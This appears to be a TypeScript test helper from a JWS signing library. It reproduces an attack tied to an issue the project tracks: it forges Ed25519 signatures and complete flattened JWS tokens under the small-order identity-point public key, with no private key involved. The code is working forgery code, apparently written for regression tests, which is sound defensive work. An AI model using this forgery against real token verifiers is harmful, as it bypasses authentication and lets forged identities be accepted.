import { ed25519 } from '@noble/curves/ed25519';
import { concatBytes, toBase64Url, utf8 } from '../src/bytes';
import type { FlattenedJws } from '../src/jws';
import { keyUdf } from '../src/key-fingerprint';

/**
 * The attacker's tool of issue #14, hole 5: the Ed25519 identity point (y = 1) as a public key. It is of
 * small order, so [k]A is the identity for every k and any (R, S) with [S]B = R satisfies the
 * cofactorless equation OpenSSL checks, whatever the message: a "signature" needs no private key.
 */
export const IDENTITY_POINT: Uint8Array = (() => {
  const bytes = new Uint8Array(32);
  bytes[0] = 1;
  return bytes;
})();

/** A scalar below L, little-endian, 32 bytes. */
function scalarBytes(s: bigint): Uint8Array {
  const out = new Uint8Array(32);
  for (let i = 0, v = s; i < 32; i++, v >>= 8n) out[i] = Number(v & 0xffn);
  return out;
}

/** A signature that "verifies" any message under IDENTITY_POINT: R = [s]B, S = s. */
export function forgedSignature(s = 0x1234567890abcdefn): Uint8Array {
  return concatBytes(ed25519.Point.BASE.multiply(s).toBytes(), scalarBytes(s));
}

/**
 * A flattened JWS of `payload` "signed" by IDENTITY_POINT: protected header {alg, kid = the identity
 * point's UDF, typ}, and a forged signature. No private key is involved.
 */
export function forgeJws(payload: Uint8Array, type?: string): FlattenedJws {
  const header = {
    alg: 'EdDSA',
    kid: keyUdf('Ed25519', IDENTITY_POINT),
    ...(type === undefined ? {} : { typ: type }),
  };
  return {
    protected: toBase64Url(utf8(JSON.stringify(header))),
    payload: toBase64Url(payload),
    signature: toBase64Url(forgedSignature()),
  };
}
